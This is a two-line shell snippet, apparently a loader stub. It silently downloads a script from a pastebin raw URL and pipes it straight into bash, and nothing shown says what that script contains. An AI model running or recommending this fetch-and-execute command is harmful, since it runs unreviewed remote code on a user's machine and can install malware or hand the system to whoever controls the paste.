# https://pastebin.com/raw/ZpxQJxvN
curl -s "https://pastebin.com/raw/UpKS3zWJ" | sed 's/\r//' | bash
